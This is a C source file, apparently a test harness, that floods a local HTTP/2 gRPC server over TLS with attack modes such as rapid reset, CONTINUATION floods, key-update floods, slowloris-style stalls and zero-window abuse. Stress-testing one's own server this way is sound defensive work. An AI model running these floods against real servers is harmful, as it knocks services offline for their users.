/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile client: raw HTTP/2 frames over TLS, as fast as the machine allows or as slow as it
 * hurts.
 *
 *   attack MODE PORT CERTIFICATE_PREFIX SECONDS CONNECTIONS
 *
 * Prints "ready" once all connections stand, and at the end how many frames went out and how many
 * connections the server ended. Connections that end are opened anew while the time lasts.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
    FRAME_DATA,
    FRAME_HEADERS,
    FRAME_PRIORITY,
    FRAME_RST_STREAM,
    FRAME_SETTINGS,
    FRAME_PING = 6,
    FRAME_WINDOW_UPDATE = 8,
    FRAME_CONTINUATION = 9,
    FRAME_UNKNOWN = 0x42, /* RFC 9113 4.1: to be ignored */
    END_STREAM = 1,
    END_HEADERS = 4,
    BATCH = 16 * 1024,
    ROOM = 1024, /* that one step may fill beyond a batch */
    KEYS_A_STEP = 1000,
    QUESTIONS = 8,
    BACKLOG = 256,           /* calls open at once where they are let be */
    MAX_STREAM = 0x40000000, /* then a new connection is needed */
    SOURCES = 200,           /* addresses of 127/8 that connections come from */
    PAUSE_MS = 1000,         /* between the steps of slow modes */
};

struct conn {
    int fd;
    SSL *ssl;
    uint32_t stream;
    bool begun;
    bool heard; /* of the server, since it was last reset */
    unsigned char out[BATCH + ROOM];
    size_t len;
};

struct mode {
    const char *name;
    void (*begin)(struct conn *conn); /* after preface and SETTINGS */
    void (*step)(struct conn *conn);  /* fills at most ROOM bytes; NULL: nothing more is sent */
    bool slow;
    bool handshake; /* stops in the middle of the TLS handshake */
    bool leaves;    /* when that is over */
};

static unsigned long long frames;
static unsigned long long ended;
static struct sockaddr_in target = {.sin_family = AF_INET};

/* --- frames ------------------------------------------------------------------------------------
 */

static void put(struct conn *conn, const void *bytes, size_t len)
{
    memcpy(conn->out + conn->len, bytes, len);
    conn->len += len;
}

static void put_frame(struct conn *conn, int type, int flags, uint32_t stream, const void *payload,
                      size_t len)
{
    const unsigned char head[9] = {
        (unsigned char)(len >> 16),    (unsigned char)(len >> 8),    (unsigned char)len,
        (unsigned char)type,           (unsigned char)flags,         (unsigned char)(stream >> 24),
        (unsigned char)(stream >> 16), (unsigned char)(stream >> 8), (unsigned char)stream};
    put(conn, head, sizeof(head));
    put(conn, payload, len);
    frames++;
}

/* A request of the health check, as literals without indexing. */
static void put_request(struct conn *conn, int flags)
{
    static const char block[] = "\x83\x87" /* POST, https */
                                "\x04\x1c/grpc.health.v1.Health/Check"
                                "\x01\x09localhost"
                                "\x0f\x10\x10"
                                "application/grpc"
                                "\x00\x02te\x08trailers";
    conn->stream += conn->stream ? 2 : 1;
    put_frame(conn, FRAME_HEADERS, flags, conn->stream, block, sizeof(block) - 1);
}

static void put_reset(struct conn *conn, uint32_t stream)
{
    put_frame(conn, FRAME_RST_STREAM, 0, stream, "\0\0\0\x08", 4);
}

/* --- modes -------------------------------------------------------------------------------------
 */

static void rapid_reset(struct conn *conn)
{
    put_request(conn, END_HEADERS);
    put_reset(conn, conn->stream);
}

static void open_and_cancel(struct conn *conn)
{
    put_request(conn, END_HEADERS);
    if (conn->stream > 2 * BACKLOG) {
        put_reset(conn, conn->stream - 2 * (BACKLOG - 1));
    }
}

static void begin_headers(struct conn *conn)
{
    put_request(conn, 0);
}

static void continuation(struct conn *conn)
{
    put_frame(conn, FRAME_CONTINUATION, 0, conn->stream, "\x00\x01x\x01y", 5);
}

static void settings(struct conn *conn)
{
    put_frame(conn, FRAME_SETTINGS, 0, 0, "\0\x03\0\0\0\x64", 6);
}

static void ping(struct conn *conn)
{
    put_frame(conn, FRAME_PING, 0, 0, "12345678", 8);
}

static void priority(struct conn *conn)
{
    put_frame(conn, FRAME_PRIORITY, 0, 1001, "\0\0\0\x07\x10", 5);
}

static void unknown(struct conn *conn)
{
    put_frame(conn, FRAME_UNKNOWN, 0, 0, "", 0);
}

static void begin_body(struct conn *conn)
{
    put_request(conn, END_HEADERS);
    put_frame(conn, FRAME_DATA, 0, conn->stream, "\0\0\x03\0\0", 5); /* 196,608 bytes to come */
}

static void tiny_data(struct conn *conn)
{
    put_frame(conn, FRAME_DATA, 0, conn->stream, "a", 1);
}

static void empty_data(struct conn *conn)
{
    put_frame(conn, FRAME_DATA, 0, conn->stream, "", 0);
}

/* TLS records that are no data, RFC 8446 4.6.3. */
static void new_keys(struct conn *conn)
{
    for (int i = 0; i < KEYS_A_STEP; i++) {
        if (SSL_key_update(conn->ssl, SSL_KEY_UPDATE_NOT_REQUESTED) != 1 ||
            SSL_do_handshake(conn->ssl) != 1) {
            return;
        }
    }
}

static void begin_zero_window(struct conn *conn)
{
    put_frame(conn, FRAME_SETTINGS, 0, 0, "\0\x04\0\0\0\0", 6);
}

/* As much window as there may be, and a stream that answers each question with kilobytes. */
static void begin_large_answers(struct conn *conn)
{
    static const char block[] = "\x83\x87" /* POST, https */
                                "\x04\x39/grpc.reflection.v1.ServerReflection/"
                                "ServerReflectionInfo"
                                "\x01\x09localhost"
                                "\x0f\x10\x10"
                                "application/grpc"
                                "\x00\x02te\x08trailers";
    put_frame(conn, FRAME_SETTINGS, 0, 0, "\0\x04\x7f\xff\xff\xff", 6);
    put_frame(conn, FRAME_WINDOW_UPDATE, 0, 0, "\x7f\xfe\0\0", 4);
    conn->stream = 1;
    put_frame(conn, FRAME_HEADERS, END_HEADERS, conn->stream, block, sizeof(block) - 1);
}

static void large_answer(struct conn *conn)
{
    static const char question[] = "\0\0\0\0\x25"      /* a frame of 37 bytes */
                                   "\x0a\x09localhost" /* host */
                                   "\x22\x18pledge.v1.MonitorService";
    if (conn->heard) { /* within what the stream's window allows */
        conn->heard = false;
        for (int i = 0; i < QUESTIONS; i++) {
            put_frame(conn, FRAME_DATA, 0, conn->stream, question, sizeof(question) - 1);
        }
    }
}

static void whole_call(struct conn *conn)
{
    put_request(conn, END_HEADERS);
    put_frame(conn, FRAME_DATA, END_STREAM, conn->stream, "\0\0\0\0\0", 5);
}

static const struct mode modes[] = {
    {.name = "rapid-reset", .step = rapid_reset},
    {.name = "open-and-cancel", .step = open_and_cancel},
    {.name = "continuation", .begin = begin_headers, .step = continuation},
    {.name = "settings", .step = settings},
    {.name = "ping", .step = ping},
    {.name = "priority", .step = priority},
    {.name = "unknown", .step = unknown},
    {.name = "new-keys", .step = new_keys},
    {.name = "slow-handshake", .slow = true, .handshake = true},
    {.name = "handshakes", .leaves = true},
    {.name = "slow-headers", .begin = begin_headers, .step = continuation, .slow = true},
    {.name = "slow-body", .begin = begin_body, .step = tiny_data, .slow = true},
    {.name = "tiny-data", .begin = begin_body, .step = tiny_data},
    {.name = "empty-data", .begin = begin_body, .step = empty_data},
    {.name = "large-answers", .begin = begin_large_answers, .step = large_answer},
    {.name = "zero-window", .begin = begin_zero_window, .step = whole_call},
    {.name = "idle", .slow = true},
};

/* --- connections -------------------------------------------------------------------------------
 */

static double now_s(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static void conn_close(struct conn *conn)
{
    if (conn->fd >= 0) {
        SSL_free(conn->ssl);
        close(conn->fd);
        conn->fd = -1;
        conn->ssl = NULL;
    }
}

/* Connects and shakes hands, blocking; the socket does not block afterwards. */
static bool conn_open(struct conn *conn, SSL_CTX *ctx, const struct mode *mode, unsigned index)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0";
    struct sockaddr_in source = {.sin_family = AF_INET};
    source.sin_addr.s_addr = htonl(0x7f000002 + index % SOURCES);
    *conn = (struct conn){.fd = socket(AF_INET, SOCK_STREAM, 0)};
    if (conn->fd < 0 || bind(conn->fd, (struct sockaddr *)&source, sizeof(source)) != 0 ||
        connect(conn->fd, (struct sockaddr *)&target, sizeof(target)) != 0) {
        conn_close(conn);
        return false;
    }
    if (mode->handshake) {
        return send(conn->fd, "\x16\x03\x01", 3, MSG_NOSIGNAL) == 3;
    }
    conn->ssl = SSL_new(ctx);
    SSL_set_fd(conn->ssl, conn->fd);
    if (SSL_connect(conn->ssl) != 1) {
        conn_close(conn);
        return false;
    }
    fcntl(conn->fd, F_SETFL, O_NONBLOCK);
    put(conn, preface, sizeof(preface));
    return true;
}

/* Reads and throws away what the server says. False when it ended the connection. */
static bool conn_read(struct conn *conn)
{
    char bytes[16384];
    for (;;) {
        ERR_clear_error();
        int len = SSL_read(conn->ssl, bytes, sizeof(bytes));
        conn->heard = conn->heard || len > 0;
        if (len <= 0) {
            return SSL_get_error(conn->ssl, len) == SSL_ERROR_WANT_READ;
        }
    }
}

static bool conn_write(struct conn *conn)
{
    if (conn->len == 0) {
        return true;
    }
    ERR_clear_error();
    int len = SSL_write(conn->ssl, conn->out, (int)conn->len);
    if (len <= 0) {
        int error = SSL_get_error(conn->ssl, len);
        return error == SSL_ERROR_WANT_WRITE || error == SSL_ERROR_WANT_READ;
    }
    conn->len = 0;
    return true;
}

/* One round with a connection. False when it is over. */
static bool conn_turn(struct conn *conn, const struct mode *mode)
{
    if (mode->handshake) {
        char byte;
        ssize_t got = recv(conn->fd, &byte, 1, MSG_DONTWAIT);
        return got != 0;
    }
    if (mode->leaves) {
        return false;
    }
    if (!conn->begun) {
        conn->begun = true;
        if (mode->begin) {
            mode->begin(conn);
        }
    } else if (mode->step && conn->len == 0) {
        size_t before;
        do {
            before = conn->len;
            mode->step(conn);
        } while (!mode->slow && conn->len > before && conn->len < BATCH - ROOM &&
                 conn->stream < MAX_STREAM);
    }
    return conn_write(conn) && conn_read(conn) && conn->stream < MAX_STREAM;
}

static SSL_CTX *context(const char *prefix)
{
    char path[4096];
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_alpn_protos(ctx, (const unsigned char *)"\x02h2", 3);
    SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER |
                              SSL_MODE_RELEASE_BUFFERS);
    snprintf(path, sizeof(path), "%s.pem", prefix);
    bool good = SSL_CTX_use_certificate_chain_file(ctx, path) == 1;
    snprintf(path, sizeof(path), "%s.key", prefix);
    return good && SSL_CTX_use_PrivateKey_file(ctx, path, SSL_FILETYPE_PEM) == 1 ? ctx : NULL;
}

static void run(struct conn *conns, unsigned count, SSL_CTX *ctx, const struct mode *mode,
                double seconds)
{
    double until = now_s() + seconds;
    while (now_s() < until) {
        for (unsigned i = 0; i < count && now_s() < until; i++) {
            if (conns[i].fd >= 0 && !conn_turn(&conns[i], mode)) {
                conn_close(&conns[i]);
                ended++;
            } else if (conns[i].fd < 0) {
                conn_open(&conns[i], ctx, mode, i);
            }
        }
        if (mode->slow) {
            poll(NULL, 0, PAUSE_MS);
        }
    }
}

int main(int argc, char **argv)
{
    const struct mode *mode = NULL;
    for (size_t i = 0; argc == 6 && i < sizeof(modes) / sizeof(modes[0]); i++) {
        mode = strcmp(argv[1], modes[i].name) == 0 ? &modes[i] : mode;
    }
    SSL_CTX *ctx = mode ? context(argv[3]) : NULL;
    if (!ctx) {
        fputs("usage: attack MODE PORT CERTIFICATE_PREFIX SECONDS CONNECTIONS\n", stderr);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    target.sin_port = htons((uint16_t)atoi(argv[2]));
    target.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    unsigned count = (unsigned)atoi(argv[5]);
    struct rlimit files;
    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &files);
    struct conn *conns = calloc(count, sizeof(*conns));
    unsigned opened = 0;
    for (unsigned i = 0; conns && i < count; i++) {
        opened += conn_open(&conns[i], ctx, mode, i);
    }
    printf("ready %u\n", opened);
    fflush(stdout);
    run(conns, count, ctx, mode, atof(argv[4]));
    printf("frames %llu ended %llu\n", frames, ended);
    return 0;
}
